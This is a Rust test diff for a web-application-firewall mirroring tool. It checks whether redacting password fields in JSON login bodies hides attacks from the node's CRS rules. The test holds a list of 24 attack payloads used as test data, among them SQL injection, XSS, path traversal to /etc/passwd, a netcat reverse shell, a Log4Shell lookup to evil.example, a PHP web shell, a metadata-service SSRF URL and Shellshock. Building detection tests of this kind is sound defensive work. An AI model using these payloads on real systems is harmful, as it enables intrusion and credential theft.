@@ -550,3 +550,101 @@ fn batches_detect_the_same_with_redaction_as_without() {
 fn ext_proc_streams_detect_the_same_with_redaction_as_without() {
     same_detections_with_redaction("ext_proc");
 }
+
+/// Attack payloads of each CRS family, as a login form's password could carry them.
+const SWEEP: [&str; 24] = [
+    "' or '1'='1",
+    "admin'--",
+    "' OR 1=1--",
+    "1' UNION SELECT username, password FROM users--",
+    "1;DROP TABLE users",
+    "\" or \"\"=\"",
+    "' or sleep(5)#",
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "javascript:alert(document.cookie)",
+    "<svg/onload=alert(1)>",
+    "../../../../etc/passwd",
+    "....//....//etc/passwd",
+    ";cat /etc/passwd",
+    "$(whoami)",
+    "`id`",
+    "| nc -e /bin/sh 10.0.0.1 4444",
+    "${jndi:ldap://evil.example/a}",
+    "java.lang.Runtime.getRuntime().exec('id')",
+    "<?php system($_GET['c']); ?>",
+    "O:8:\"stdClass\":0:{}",
+    "{{7*7}}",
+    "http://169.254.169.254/latest/meta-data/",
+    "() { :; }; /bin/bash -c id",
+];
+
+/// What keeping `password` a marker at the gateway costs: the sweep's payloads in a
+/// `password` field and in a `token` field of a JSON login, analysed by the node's CRS as
+/// the node receives them with the default redaction, and with none.
+#[test]
+fn what_keeping_passwords_at_the_gateway_costs() {
+    use oob_mirror::config::RedactConfig;
+    use oob_mirror::redact::{BodyKind, Redactor};
+    use oob_mirror_node::analysis::RulesConfig;
+    use oob_mirror_node::pairing::Exchange;
+    let redactor = Redactor::new(&RedactConfig::default(), b"k".to_vec()).unwrap();
+    // The headers as the client sent them: the length is the original body's.
+    let login = |body: Vec<u8>, length: usize| Exchange {
+        id: "login".into(),
+        source: Some("10.1.2.3:40000".into()),
+        destination: Some("10.0.0.1:8080".into()),
+        method: "POST".into(),
+        authority: Some("api.example.com".into()),
+        path: "/login".into(),
+        protocol: Some("HTTP/1.1".into()),
+        request_headers: vec![
+            (b"host".to_vec(), b"api.example.com".to_vec()),
+            (b"content-type".to_vec(), b"application/json".to_vec()),
+            (b"user-agent".to_vec(), b"curl/8.0".to_vec()),
+            (b"accept".to_vec(), b"*/*".to_vec()),
+            (b"content-length".to_vec(), length.to_string().into_bytes()),
+        ],
+        request_body: body,
+        ..Exchange::default()
+    };
+    let mut table = Vec::new();
+    for paranoia in [1, 4] {
+        let engine = RulesConfig {
+            paranoia,
+            ..RulesConfig::default()
+        }
+        .engine()
+        .unwrap();
+        for field in ["password", "token"] {
+            let (mut off, mut on) = (0, 0);
+            for payload in SWEEP {
+                let body = serde_json::json!({"user": "ann", field: payload}).to_string();
+                let redacted = redactor.body(BodyKind::Json, body.as_bytes(), &mut Vec::new());
+                let length = body.len();
+                // An attack rule (930 to 944): at paranoia 4, 920273 fires on any JSON body.
+                let attack = |ex: &Exchange| {
+                    engine
+                        .analyse(ex)
+                        .iter()
+                        .any(|m| (930_000..945_000).contains(&m.id))
+                };
+                off += usize::from(attack(&login(body.into_bytes(), length)));
+                on += usize::from(attack(&login(redacted, length)));
+            }
+            eprintln!("paranoia {paranoia}, {field}: detected {off} of {} without redaction, {on} with the default", SWEEP.len());
+            table.push((paranoia, field, off, on));
+        }
+    }
+    // Every payload is an attack the node could see in a password; none is seen there with
+    // the default, all are in a `token` field (not credential-shaped: sent to the node).
+    assert_eq!(
+        table,
+        [
+            (1, "password", 22, 0),
+            (1, "token", 22, 22),
+            (4, "password", 24, 0),
+            (4, "token", 24, 24)
+        ]
+    );
+}
